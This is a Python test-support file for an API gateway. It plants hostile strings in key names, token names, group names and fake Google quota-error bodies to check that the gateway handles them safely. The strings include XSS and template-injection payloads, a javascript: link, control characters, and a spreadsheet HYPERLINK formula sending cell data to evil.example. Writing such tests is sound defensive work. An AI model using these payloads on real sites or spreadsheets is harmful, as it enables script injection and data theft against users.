"""A gateway whose every name, message and label was written by somebody who means harm."""

import json
import re
from urllib.parse import quote

import httpx

from tests.support.fake_upstream import FakeUpstream
from tests.support.gateway import Gateway

SCRIPT = '"><img src=/static/x onerror=window.ran=1></script></style><script>window.ran=2</script>'
ALPINE = (
    "' x-data x-init=\"window.ran=3\" hx-get=/admin/logout/ {{ 7*7 }}{% now 'Y' %}$${window.ran=4}"
)
LINK = "<a href=javascript:alert(1)>&lt;b&gt; ]]><!-- \U0001f480"
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'
LONG = "W" * 100
MODELS = (SCRIPT, ALPINE, LONG)
MESSAGE = (
    f"{SCRIPT} javascript:alert(5) \u202eevil\u202c \x1b[31m \x00 {ALPINE} {FORMULA} {'W' * 1500}"
)
KEYS = [
    {"key": "AIzaHostileKey-<script>alert(1)</script>", "name": SCRIPT, "project": LINK},
    {"key": "AIzaHostileKey-2", "name": LONG, "project": LONG},
    {"key": "AIzaHostileKey-3", "name": ALPINE, "project": FORMULA},
    {"key": "AIzaHostileKey-4", "name": FORMULA},
]


def groups(url: str) -> list[dict[str, object]]:
    """The second one is never asked: its proxy does not answer."""
    proxied = {
        "target_url": f"http://127.0.0.1:9/{'w' * 400}",
        "proxy_url": "http://u:p@127.0.0.1:9",
    }
    return [
        {
            "name": SCRIPT,
            "target_url": url,
            "auth": "google",
            "rate_limit_policy": "quota_aware",
            "api_keys": KEYS[:3],
        },
        {"name": LONG, "priority": 1, **proxied, "api_keys": [KEYS[3]]},
    ]


def refusal(status: int = 429) -> bytes:
    """As Google writes one."""
    violation = {
        "quotaMetric": SCRIPT,
        "quotaId": f"PerMinute {SCRIPT} {LONG}",
        "quotaValue": SCRIPT,
    }
    failure = {"@type": "type.googleapis.com/google.rpc.QuotaFailure", "violations": [violation]}
    retry = {"@type": "type.googleapis.com/google.rpc.RetryInfo", "retryDelay": "3000s"}
    said = {
        "code": status,
        "message": MESSAGE,
        "status": "RESOURCE_EXHAUSTED",
        "details": [failure, retry],
    }
    return json.dumps({"error": said}, ensure_ascii=False).encode()


def dead_key() -> bytes:
    info = {"@type": "type.googleapis.com/google.rpc.ErrorInfo", "reason": "API_KEY_INVALID"}
    said = {
        "code": 400,
        "message": f"API key not valid. {MESSAGE}",
        "status": "INVALID_ARGUMENT",
        "details": [info],
    }
    return json.dumps({"error": said}, ensure_ascii=False).encode()


def abuse(gateway: Gateway, upstream: FakeUpstream) -> str:
    """Refusals and requests with hostile texts. Returns a token."""
    done = gateway.manage("tokens", "create", FORMULA, "--model", "*")
    found = re.search(r"gk-[\w-]{43}", done.stdout)
    assert found, done
    for name in (SCRIPT, LONG):
        assert gateway.manage("tokens", "create", name, "--expires", "1d").returncode == 0
    upstream.refuse(KEYS[0]["key"], status=400, body=dead_key())
    for model in MODELS:
        upstream.refuse(KEYS[1]["key"], status=429, body=refusal(), model=model)
    upstream.refuse(KEYS[1]["key"], status=429, body=refusal())
    with httpx.Client(headers={"x-goog-api-key": found[0]}, trust_env=False) as http:
        for model in MODELS:
            http.post(
                f"{gateway.url}/v1beta/models/{quote(model, safe='')}:generateContent",
                json={"contents": []},
            )
            http.post(
                f"{gateway.url}/v1beta/openai/chat/completions",
                json={"model": model, "messages": []},
            )
    return found[0]
